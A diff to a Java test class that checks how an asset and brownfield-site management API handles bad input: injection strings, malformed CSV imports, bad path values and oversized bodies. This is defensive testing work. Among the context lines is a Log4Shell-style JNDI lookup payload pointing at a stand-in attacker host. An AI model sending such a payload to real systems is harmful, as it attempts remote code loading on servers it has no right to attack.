@@ -52,7 +52,7 @@ class BadInputTest {
             "${jndi:ldap://evil.example/a}");
 
     static final String[] TABLES = {"partner", "asset", "asset_status_change", "project", "project_partner",
-            "project_asset", "project_milestone", "project_stage_change"};
+            "project_asset", "project_milestone", "project_stage_change", "brownfield_site"};
 
     static final ObjectMapper JSON = new ObjectMapper();
 
@@ -110,6 +110,9 @@ class BadInputTest {
                     List.of()),
             new Op("updateMilestone", "maidstone.editor", "PUT", t -> milestone(t),
                     t -> new HashMap<>(Map.of("name", "Survey " + t, "dueOn", "2031-01-31", "ownerPartnerId", "kcc")),
+                    List.of()),
+            new Op("updateBrownfieldSiteLinks", "maidstone.editor", "PUT", t -> brownfieldSite(t),
+                    t -> new HashMap<>(Map.of("projectId", demoProject("Tonbridge Road Car Park"))),
                     List.of()));
 
     static Stream<Case> cases() {
@@ -172,7 +175,9 @@ class BadInputTest {
         int status = r.statusCode();
         assertTrue(status < 500, c + ": " + status + " " + r.asString());
 
-        boolean mayBeAccepted = c.kind().equals("injection") || c.kind().startsWith("required field missing or optional");
+        // A site's links are both optional: {} is a valid request that removes them.
+        boolean mayBeAccepted = c.kind().equals("injection") || c.kind().startsWith("required field missing or optional")
+                || c.kind().equals("every field missing") && c.op().name().equals("updateBrownfieldSiteLinks");
         if (status < 300 && mayBeAccepted) {
             if (c.kind().equals("injection")) {
                 // Accepted strings are data: stored and answered exactly as sent.
@@ -295,7 +300,7 @@ class BadInputTest {
     /** Injection strings and bad values in every query parameter of every read. */
     static Stream<String> queries() {
         List<String> queries = new ArrayList<>();
-        Map<String, List<String>> params = Map.of(
+        Map<String, List<String>> params = new HashMap<>(Map.of(
                 "/partners", List.of("type", "limit", "offset"),
                 "/assets", List.of("partner", "localAuthority", "status", "type", "q", "bbox", "nearLat", "nearLon", "radiusM",
                         "includeDisposed", "sort", "limit", "offset"),
@@ -307,7 +312,10 @@ class BadInputTest {
                 "/dashboards/pipeline", List.of("localAuthority"),
                 "/data-quality", List.of("partner", "scope", "localAuthority", "staleAfterDays", "listLimit"),
                 "/local-authorities", List.of("type", "region", "county", "current", "name", "inPartnershipArea", "limit",
-                        "offset"));
+                        "offset")));
+        params.put("/brownfield-sites", List.of("partner", "localAuthority", "planningStatus", "ownershipStatus",
+                "deliverable", "q", "bbox", "limit", "offset"));
+        params.put("/brownfield-sites/export", List.of("partner", "localAuthority", "planningStatus", "ownershipStatus"));
         params.forEach((path, names) -> {
             for (String name : names) {
                 for (String value : INJECTIONS) {
@@ -369,6 +377,8 @@ class BadInputTest {
             paths.add("PUT /projects/" + v);
             paths.add("POST /projects/" + v + "/milestones");
             paths.add("PUT /projects/00000000-0000-0000-0000-000000000000/milestones/" + v);
+            paths.add("GET /brownfield-sites/" + v);
+            paths.add("PUT /brownfield-sites/" + v + "/links");
         }
         return paths.stream();
     }
@@ -437,6 +447,43 @@ class BadInputTest {
         return files.stream();
     }
 
+    /** The brownfield register import: bad files are refused whole, naming the line, and nothing is written. */
+    @ParameterizedTest(name = "brownfield import {0}")
+    @MethodSource("brownfieldFiles")
+    void brownfieldCsvImport(String name, String csv) {
+        Map<String, Long> before = counts();
+        Response r = Api.badRequestAs("maidstone.editor").contentType("text/csv; charset=UTF-8").body(csv)
+                .post("/brownfield-sites/import");
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, name + ": " + r.statusCode() + " " + r.asString());
+        assertTrue(r.contentType().startsWith("application/problem+json"), name);
+        assertEquals(before, counts(), name + ": rows written");
+    }
+
+    static Stream<org.junit.jupiter.params.provider.Arguments> brownfieldFiles() {
+        String header = "SiteReference,SiteNameAddress,CoordinateReferenceSystem,GeoX,GeoY,Hectares,OwnershipStatus\n";
+        List<org.junit.jupiter.params.provider.Arguments> files = new ArrayList<>();
+        files.add(org.junit.jupiter.params.provider.Arguments.of("binary garbage", "\u0000\u0001\u0002PK\u0003\u0004"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("empty", ""));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("header only", header));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("unterminated quote", header + "R1,\"A,B,OSGB36,576086,155747\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("misspelt header", header.replace("Hectares", "Hecatres") + "R1,A,OSGB36,576086,155747,1,mixed ownership\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("swapped WGS84", header + "R1,A,WGS84,51.27,0.52,1,mixed ownership\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("impossible coordinates", header + "R1,A,OSGB36,-5,99999999,1,mixed ownership\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("uneven row", header + "R1,A,OSGB36,576086\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("wrong types", header + "R1,A,OSGB36,east,north,lots,yes\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("another council", "OrganisationURI," + header
+                + "http://opendatacommunities.org/id/district-council/dover,R1,A,OSGB36,576086,155747,1,mixed ownership\n"));
+        files.add(org.junit.jupiter.params.provider.Arguments.of("over-long name", header + "R1," + "x".repeat(100_000)
+                + ",OSGB36,576086,155747,1,mixed ownership\n"));
+        for (String injection : INJECTIONS) {
+            // A good row, then a row whose area is an injection string: the whole file is refused.
+            files.add(org.junit.jupiter.params.provider.Arguments.of("injection " + abbreviate(injection),
+                    header + "R-" + AssetFixtures.token() + ",Good,OSGB36,576086,155747,1,mixed ownership\n"
+                            + "R2,Bad,OSGB36,576086,155747,\"" + injection.replace("\"", "\"\"") + "\",mixed ownership\n"));
+        }
+        return files.stream();
+    }
+
     /**
      * Bodies over the 64 MB limit (quarkus.http.limits.max-body-size): every operation that takes a body
      * answers 413 problem+json as soon as it sees the declared length, and writes nothing. The test sends
@@ -457,6 +504,8 @@ class BadInputTest {
             case "changeProjectStage" -> project(AssetFixtures.token(), "/stage-changes");
             case "addMilestone" -> project(AssetFixtures.token(), "/milestones");
             case "updateMilestone" -> milestone(AssetFixtures.token());
+            case "updateBrownfieldSiteLinks" -> brownfieldSite(AssetFixtures.token());
+            case "importBrownfieldSites" -> new Target("/brownfield-sites/import", null, null);
             default -> throw new AssertionError(name);
         };
         String user = name.endsWith("Partner") ? "pmo.admin" : "maidstone.editor";
@@ -498,6 +547,7 @@ class BadInputTest {
             ops.add(org.junit.jupiter.params.provider.Arguments.of(op.name(), op.method(), "application/json"));
         }
         ops.add(org.junit.jupiter.params.provider.Arguments.of("importAssets", "POST", "text/csv; charset=UTF-8"));
+        ops.add(org.junit.jupiter.params.provider.Arguments.of("importBrownfieldSites", "POST", "text/csv; charset=UTF-8"));
         return ops.stream();
     }
 
@@ -526,6 +576,24 @@ class BadInputTest {
         String milestone = Api.as("maidstone.editor").body(Map.of("name", "Survey", "dueOn", "2031-01-31"))
                 .post("/projects/" + id + "/milestones").then().statusCode(201).extract().path("id");
         return new Target("/projects/" + id + "/milestones/" + milestone, "\"0\"", "/projects/" + id);
+    }
+
+    static Target brownfieldSite(String t) {
+        String id = org.estatehub.brownfield.BrownfieldFixtures.site("maidstone", t);
+        return new Target("/brownfield-sites/" + id + "/links", "\"0\"", "/brownfield-sites/" + id);
+    }
+
+    /** A demo project's id, as demo/projects.sql derives it: md5('demo-project:' || name) as a UUID. */
+    static String demoProject(String name) {
+        try {
+            byte[] md5 = java.security.MessageDigest.getInstance("MD5")
+                    .digest(("demo-project:" + name).getBytes(java.nio.charset.StandardCharsets.UTF_8));
+            String hex = java.util.HexFormat.of().formatHex(md5);
+            return hex.substring(0, 8) + "-" + hex.substring(8, 12) + "-" + hex.substring(12, 16) + "-"
+                    + hex.substring(16, 20) + "-" + hex.substring(20);
+        } catch (java.security.NoSuchAlgorithmException e) {
+            throw new IllegalStateException(e);
+        }
     }
 
     // --- helpers ------------------------------------------------------------------------------------------
